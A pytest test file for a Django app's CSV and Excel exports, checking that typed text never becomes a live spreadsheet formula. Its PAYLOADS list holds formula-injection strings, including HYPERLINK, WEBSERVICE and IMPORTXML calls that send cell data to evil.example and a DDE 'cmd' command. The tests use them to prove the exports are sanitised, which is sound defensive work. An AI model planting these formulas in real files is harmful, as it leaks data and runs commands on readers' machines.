"""Exports carry no formulas (S-12): the writer by itself, the waitlist and tables through their doors."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from datetime import datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import HEADS
from accounts.models import WaitlistEntry
from assessments.charts.findings import use_row
from assessments.charts.planning import gap_rows
from assessments.engine.display import tenths, whole
from assessments.results import results_for
from assessments.services.assessments import rename_assessment
from assessments.services.settings import set_targets, state_dpmm
from assessments.services.submission import submit_assessment
from records.exports import Value, csv_file, excel_file, harmless
from records.exports.excel import NOT_IN_EXCEL
from records.jobs import run_job
from records.models import Event
from reports.document.figures import FIGURES
from reports.models import Report
from reports.rendering import render_report
from tests import reviewing
from tests.builders import answer, answer_all, bami_spec, make_assessment, make_confirmed, make_submitted
from tests.reviewing import again

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2003\u200d\u2060 =1+1",
    "a\n=1+1",
    "a\r\n\t -1+1",
    "a\u2028=1+1",
    "a\x0b@SUM(1)",
    "a;=1+1",
    "a\t=1+1",
    '","=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
    "\x00=1+1",
    "\u202e=1+1",
    "'=1+1\n=2+2",
    "\t",
    "\r\n",
)  # fmt: skip
DANGEROUS = set("=+-@\t\r\n＝＋－＠")
UNSEEN = "\u00a0\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e\u200f\u202e\u0000"
TYPED = ("name", "email", "organisation_name", "consent", "note")  # what somebody wrote


def begins_like_a_formula(cell: str) -> bool:
    """The rule of the trust page: on each line, after blanks and signs without width."""
    lines = re.split(r"\r\n|[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", cell)
    if cell and cell[0] in "\t\r\n":
        return True
    for line in lines:
        seen = line.lstrip(" ")
        while seen and (seen[0] in UNSEEN or unicodedata.category(seen[0]) in ("Zs", "Cf")):
            seen = seen[1:]
        if seen[:1] in DANGEROUS and seen:
            return True
    return False


def live_in_csv(content: bytes) -> int:
    """Cells that a spreadsheet would run, whether it parts them by commas or by semicolons."""
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]
    cells += [part for cell in cells for part in cell.split(";")]
    return sum(map(begins_like_a_formula, cells))


def live_in_excel(content: bytes) -> int:
    """Formulas, links to elsewhere, and cells that hold a text as anything but a text."""
    with zipfile.ZipFile(BytesIO(content)) as parts:
        names = parts.namelist()
        sheets = [parts.read(name).decode() for name in names if name.startswith("xl/worksheets/")]
    live = sum(sheet.count("<f>") + sheet.count("<f ") + sheet.count("<hyperlink") for sheet in sheets)
    live += sum("externalLink" in name for name in names)
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            live += sum(cell.data_type not in ("s", "n", "d", "inlineStr") for cell in row)
    return live


def sheet_of(content: bytes) -> Any:
    return load_workbook(BytesIO(content)).active


def test_the_rule_finds_what_it_looks_for():
    """Each payload as it was typed would be found, were it not marked."""
    rows = StringIO()
    csv.writer(rows, quoting=csv.QUOTE_ALL).writerows([[payload] for payload in PAYLOADS])
    found = [payload for payload in PAYLOADS if live_in_csv(csv_of([[payload]]))]
    harmless_as_typed = {'","=1+1', "a\t=1+1"}
    assert set(PAYLOADS) - set(found) == harmless_as_typed


def csv_of(rows):
    text = StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows(rows)
    return text.getvalue().encode("utf-8-sig")


@pytest.mark.check("S-12")
@pytest.mark.parametrize("column", range(len(HEADS)), ids=HEADS)
def test_no_column_of_the_writer_carries_a_formula(column, figure):
    rows = [["x"] * column + [payload] + ["x"] * (len(HEADS) - column - 1) for payload in PAYLOADS]
    live = live_in_csv(csv_file(HEADS, rows)) + live_in_excel(excel_file("Waitlist", HEADS, rows))
    figure("S-12", cells=2 * len(PAYLOADS), live=live)
    assert live == 0


@pytest.mark.check("S-12")
def test_no_export_of_the_waitlist_carries_a_formula(cast, sign_in, figure):
    for number, typed in enumerate(PAYLOADS):
        payload = typed.replace("\x00", "\x01")  # PostgreSQL keeps no null byte
        make_confirmed(**dict.fromkeys(TYPED, f"{payload}{number}"))
    client = sign_in(cast.programme_admin)
    text = client.get("/programme/waitlist/export/csv/").content
    book = client.get("/programme/waitlist/export/xlsx/").content
    live = live_in_csv(text) + live_in_excel(book)
    figure("S-12", cells=2 * len(PAYLOADS) * len(TYPED), live=live)
    assert live == 0
    rows = list(csv.reader(StringIO(text.decode("utf-8-sig"), newline="")))
    assert (rows[0], len(rows)) == (list(HEADS), 1 + len(PAYLOADS))
    sheet = sheet_of(book)
    assert [cell.value for cell in sheet[1]] == list(HEADS)
    names = {row[0].value for row in sheet.iter_rows(min_row=2)}
    assert {f"=1+1{0}", "@SUM(A1:A9)3", '=HYPERLINK("https://evil.example?"&A1,"Open")24'} <= names


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("Ada Byron", "Ada Byron"),
        ("", ""),
        ("Smith-Jones + Sons", "Smith-Jones + Sons"),
        ("=1", "'=1"),
        ("a\n=1\nb", "a\n'=1\nb"),
        ("a\n\nb", "a\n\nb"),
        ("\nb", "'\nb"),
        ("x; -y", "x;' -y"),
        ("   ", "   "),
    ],
)
def test_only_what_could_run_is_marked(text, marked):
    assert harmless(text) == marked


def test_values_keep_their_kind():
    moment = datetime(2026, 11, 28, 14, 2)  # noqa: DTZ001  # a file knows no zones
    rows: list[list[Value]] = [["Ada", 3, moment, None]]
    sheet = sheet_of(excel_file("Sheet", ["a", "b", "c", "d"], rows))
    assert [cell.value for cell in sheet[2]] == ["Ada", 3, moment, None]
    assert csv_file(["a", "b", "c", "d"], rows).decode("utf-8-sig").splitlines()[1] == (
        '"Ada","3","2026-11-28 14:02",""'
    )


def test_an_export_says_what_the_list_says(cast, sign_in):
    entry = make_confirmed(name="Ada Byron", note="First line\nsecond", updates=True)
    make_confirmed(name="Left out", kind="cdmo")
    client = sign_in(cast.programme_admin)
    reply = client.get("/programme/waitlist/export/csv/?kind=manufacturer")
    (row,) = list(csv.DictReader(StringIO(reply.content.decode("utf-8-sig"), newline="")))
    assert (row["Name"], row["E-mail"], row["Country"]) == ("Ada Byron", entry.email, "Denmark")
    assert (row["State"], row["Note"]) == ("Confirmed", "First line\nsecond")
    assert row["Interests"] == "Early access for one of our sites, Updates"
    assert reply["Content-Disposition"].startswith('attachment; filename="waitlist-2')
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    assert reply["Cache-Control"] == "no-store"
    assert WaitlistEntry.objects.count() == 2


def typed_everywhere(cast):
    """A submitted assessment in whose every own word a formula begins; the texts as they were typed."""
    title = "=1+1 baseline"
    assessment = make_assessment(site=cast.site, owner=cast.owner, title=title)
    rename_assessment(actor=cast.owner, assessment=assessment, title=title, scope="@SUM(A1:A9)")
    codes = list(bami_spec().questions)
    typed = {title, "@SUM(A1:A9)"}
    for number, payload in enumerate(PAYLOADS):
        text = payload.replace("\x00", "\x01") + str(number)  # PostgreSQL keeps no null byte
        answer(assessment, cast.owner, codes[number], 2, comment=text, evidence_note=text)
        typed.add(text)
    return assessment, typed


def workbook_of(assessment, client) -> bytes:
    """The workbook as a person gets it: asked for, made by the job, downloaded."""
    asked = client.post(reverse("reports:ask_workbook", args=[assessment.uuid]))
    report = Report.objects.of(assessment.organisation).get(kind=Report.Kind.WORKBOOK)
    run_job(report.job_id, render_report)
    page = client.get(asked.url).content.decode()
    assert ("The workbook is ready" in page, "paper" in page.partition("<main")[2]) == (True, False)
    reply = client.get(reverse("reports:file", args=[assessment.uuid, report.uuid]))
    assert reply["Content-Disposition"].startswith("attachment")
    assert ".xlsx" in reply["Content-Disposition"]
    assert reply["Content-Type"].endswith("spreadsheetml.sheet")
    assert "sandbox" in reply["Content-Security-Policy"]
    return b"".join(reply)


def one_break(text: str) -> str:
    return re.sub(r"\r\n?", "\n", text)


@pytest.mark.check("S-12")
def test_no_table_of_an_assessment_carries_a_formula(cast, sign_in, figure):
    assessment, typed = typed_everywhere(cast)
    client = sign_in(cast.viewer)
    book = workbook_of(assessment, client)
    text = client.get(reverse("reports:plan_table", args=[assessment.uuid]))
    charts = [
        client.get(reverse("reports:figure", args=[assessment.uuid, name, "csv"])).content for name in FIGURES
    ]
    live = live_in_excel(book) + sum(map(live_in_csv, [text.content, *charts]))
    pages = load_workbook(BytesIO(book)).worksheets
    held = {str(cell.value) for page in pages for row in page.iter_rows() for cell in row}
    figure("S-12", cells=len(held), live=live)
    assert live == 0
    # A reader of the file takes each line break for the one of its own system.
    lost = {one_break(NOT_IN_EXCEL.sub("", words)) for words in typed} - set(map(one_break, held))
    assert lost == set()


def test_the_workbook_says_what_the_results_say(cast, sign_in):
    assessment = make_submitted(site=cast.site, owner=cast.owner)
    book = load_workbook(BytesIO(workbook_of(assessment, sign_in(cast.viewer))))
    assert book.sheetnames == [
        "About",
        "Levels",
        "AI uses",
        "Gaps",
        "Plan",
        "Steps without an action",
        "Projection",
        "Contradictions",
        "What the result hangs on",
        "Answers",
    ]
    found, claimed = results_for(assessment), results_for(assessment).readings.claimed
    about = {row[0].value: row[1].value for row in book["About"].iter_rows(min_row=2)}
    assert about["Index of 100"] == whole(claimed.index)
    assert about["Held back by the digital plant"] == whole(claimed.held_back)
    assert about["Level claimed"] == claimed.level
    levels = {row[0].value: [cell.value for cell in row] for row in book["Levels"].iter_rows(min_row=2)}
    for code, row in claimed.dimensions.items():
        assert (levels[code][2], levels[code][7]) == (row.level, row.effective_level)
        assert f"{levels[code][9]:.1f}" == tenths(row.score)
    assert [row[0].value for row in book["Plan"].iter_rows(min_row=2)] == [
        step.action for step in found.roadmap.actions
    ]
    ranked = [(row["Code"], row["Priority"]) for row in rows_of(book, "Gaps") if row["Rank"]]
    assert ranked == [(gap.question, gap.priority) for gap in found.gaps.questions]
    assert book["AI uses"].max_row == 1 + len(found.use_cases)
    assert book["Answers"].max_row == 51
    done = Event.objects.of(cast.organisation).filter(object_type="report").order_by("pk")
    assert [event.action for event in done] == ["report.requested", "report.downloaded"]


@pytest.fixture
def aimed(cast):
    """A draft with uses chosen; in its first dimension one answer stands below a target that is met."""
    assessment = make_assessment(site=cast.site, owner=cast.owner)
    answer_all(assessment, cast.owner, 4, grade="E2")
    answer(assessment, cast.owner, "D1-EXT", 1)
    state_dpmm(
        actor=cast.owner, assessment=assessment, source="assessed", level=3, on=None, tool="DPMM 3.0",
        by="Automation", base_version=0,
    )  # fmt: skip
    set_targets(
        actor=cast.owner, assessment=assessment, targets={"D1": 2, "D2": 5}, start_on=None, capacity=4,
        blackout_weeks=[], use_cases=["UC01", "UC02"], base_version=1,
    )  # fmt: skip
    return again(assessment, cast.owner)


def rows_of(book, name: str) -> list[dict[str, Any]]:
    """The rows of a sheet, each by its heads."""
    heads, *rows = ([cell.value for cell in row] for row in book[name].iter_rows())
    return [dict(zip(heads, row, strict=True)) for row in rows]


def test_the_workbook_marks_gaps_of_targets_that_are_met_and_uses_one_step_away(cast, aimed, sign_in):
    book = load_workbook(BytesIO(workbook_of(aimed, sign_in(cast.viewer))))
    spec, found = bami_spec(), results_for(aimed)
    gaps = gap_rows(spec, tuple(aimed.use_cases), found)
    firm = {row.question.code: "yes" if row.is_firm else "no" for row in gaps}
    head = "Target met; would make it firm"
    assert {row["Code"]: row[head] for row in rows_of(book, "Gaps") if row["Rank"]} == firm
    assert set(firm.values()) == {"yes", "no"}
    for row in rows_of(book, "Gaps"):
        if row["Rank"]:
            doubled = 2 if row["Gate"] == "yes" else 1
            uses_of_it = len(row["Critical to"].split("; ")) if row["Critical to"] else 0
            why = row["Weight"] * (row["To"] - row["From"]) * doubled * (1 + uses_of_it)
            assert row["Priority"] == why
    uses = [use_row(spec, found, use, chosen=False) for use in spec.use_cases]
    steps = {row.use_case.code: "yes" if row.last_step else "no" for row in uses}
    assert {row["Code"]: row["One step away"] for row in rows_of(book, "AI uses")} == steps
    assert set(steps.values()) == {"yes", "no"}


@pytest.fixture
def argued(cast, aimed):
    """The same reviewed: one level set and disputed, one answer opened, one asked about, else accepted."""
    submit_assessment(actor=cast.owner, assessment=aimed)
    reviewing.decide(aimed, cast.reviewer, "D1-EXT", 2, reason="=2+2 is not shown", pointer="@SOP 4")
    reviewing.decide(aimed, cast.reviewer, "D1-INV")
    asked = reviewing.ask(aimed, cast.reviewer, "D1-CTX", "-Which lines?")
    reviewing.answer(aimed, cast.owner, asked, "+Suite 1.")
    reviewing.accept_all(aimed, cast.reviewer)
    reviewing.accept_asked(aimed, cast.reviewer)
    reviewing.finish(aimed, cast.reviewer, "=A closing statement")
    reviewing.take_stance(aimed, cast.owner, "D1-EXT", False, "=It is shown")
    return again(aimed, cast.owner)


def test_the_workbook_says_what_the_review_and_the_site_say_of_each_answer(cast, argued, sign_in):
    content = workbook_of(argued, sign_in(cast.viewer))
    assert live_in_excel(content) == 0
    rows = {row["Code"]: row for row in rows_of(load_workbook(BytesIO(content)), "Answers")}
    decided = {code: row.pop(f"Decided ({argued.site.time_zone})") for code, row in rows.items()}
    assert all(isinstance(moment, datetime) for moment in decided.values())
    spec, reviewer = bami_spec(), cast.reviewer.shown_name
    plain = {
        "Answer": "Level", "Level": 4, "Evidence grade": "E2", "Level evidenced": 4, "Reason": None,
        "Evidence note": None, "Comment": None, "Flagged": "no", "Last change by": cast.owner.shown_name,
        "Level validated": 4, "Review": "Accepted as evidenced, with the rest", "Reason of the review": None,
        "Seen in": None, "Decided by": reviewer, "Asked": None, "Reply": None, "The site": None,
        "What the site says": None,
    }  # fmt: skip
    opened = {"Review": "Accepted as evidenced"}
    apart: dict[str, dict[str, Any]] = {
        "D1-INV": opened,
        "D1-CTX": opened | {"Asked": "-Which lines?", "Reply": "+Suite 1."},
        "D1-EXT": {
            "Level": 1, "Level evidenced": 1, "Level validated": 2,
            "Review": "Level set", "Reason of the review": "=2+2 is not shown", "Seen in": "@SOP 4",
            "The site": "disagrees", "What the site says": "=It is shown",
        },
    }  # fmt: skip
    named = {
        code: {
            "Code": code,
            "Question": question.title,
            "Dimension": spec.dimension_by_code[spec.dimension_of[code]].name,
        }
        for code, question in spec.questions.items()
    }
    assert rows == {code: named[code] | plain | apart.get(code, {}) for code in spec.questions}


def test_the_workbook_holds_all_that_the_report_counts(cast, argued, sign_in):
    book = load_workbook(BytesIO(workbook_of(argued, sign_in(cast.viewer))))
    found = results_for(argued)
    about = {row["What"]: row["Value"] for row in rows_of(book, "About")}
    validated = found.readings.validated
    assert (about["Level validated"], about["Index validated"]) == (validated.level, whole(validated.index))
    assert (about["DPMM level"], about["Where the DPMM level comes from"]) == (3, "assessed")
    assert about["Reviewed by"] == f"{cast.consultancy.name}: {cast.reviewer.shown_name}"
    zone = argued.site.time_zone
    assert isinstance(about[f"Submitted ({zone})"], datetime)
    assert isinstance(about[f"Reviewed ({zone})"], datetime)
    assert about["Closing statement"] == "=A closing statement"
    steps = [(row["Code"], row["From"], row["To"]) for row in rows_of(book, "Steps without an action")]
    assert steps == [(row.question, row.from_level, row.to_level) for row in found.roadmap.anchor_tasks]
    flags = [row["What contradicts itself"] for row in rows_of(book, "Contradictions")]
    assert list(dict.fromkeys(flags)) == [flag.text for flag in found.flags]
    hangs = [(row["Code"], row["Change"]) for row in rows_of(book, "What the result hangs on")]
    words = {"down": "one lower", "up": "one higher"}
    assert hangs == [(row.question, words[row.direction]) for row in found.load_bearing]
    assert steps
    assert hangs


def test_the_plan_is_a_table_of_its_actions(cast, sign_in):
    assessment = make_submitted(site=cast.site, owner=cast.owner)
    reply = sign_in(cast.viewer).get(reverse("reports:plan_table", args=[assessment.uuid]))
    rows = list(csv.DictReader(StringIO(reply.content.decode("utf-8-sig"), newline="")))
    steps = results_for(assessment).roadmap.actions
    assert [(row["Code"], row["First week"], row["Last week"]) for row in rows] == [
        (step.action, str(step.start + 1), str(step.end)) for step in steps
    ]
    assert reply["Content-Type"] == "text/csv; charset=utf-8"


def test_tables_of_an_empty_draft_are_there(cast, sign_in, assessment):
    client = sign_in(cast.owner)
    book = load_workbook(BytesIO(workbook_of(assessment, client)))
    assert book["Plan"].max_row == 1
    assert {row[3].value for row in book["Answers"].iter_rows(min_row=2)} == {"Unanswered"}


def test_no_stranger_takes_tables(cast, sign_in, assessment):
    plan, book = (
        reverse(f"reports:{name}", args=[assessment.uuid]) for name in ("plan_table", "ask_workbook")
    )
    assert sign_in(cast.stranger).get(plan).status_code == 404
    assert sign_in(cast.owner).post(plan).status_code == 405
    assert sign_in(cast.stranger).post(book).status_code == 404
    assert sign_in(cast.owner).get(book).status_code == 405
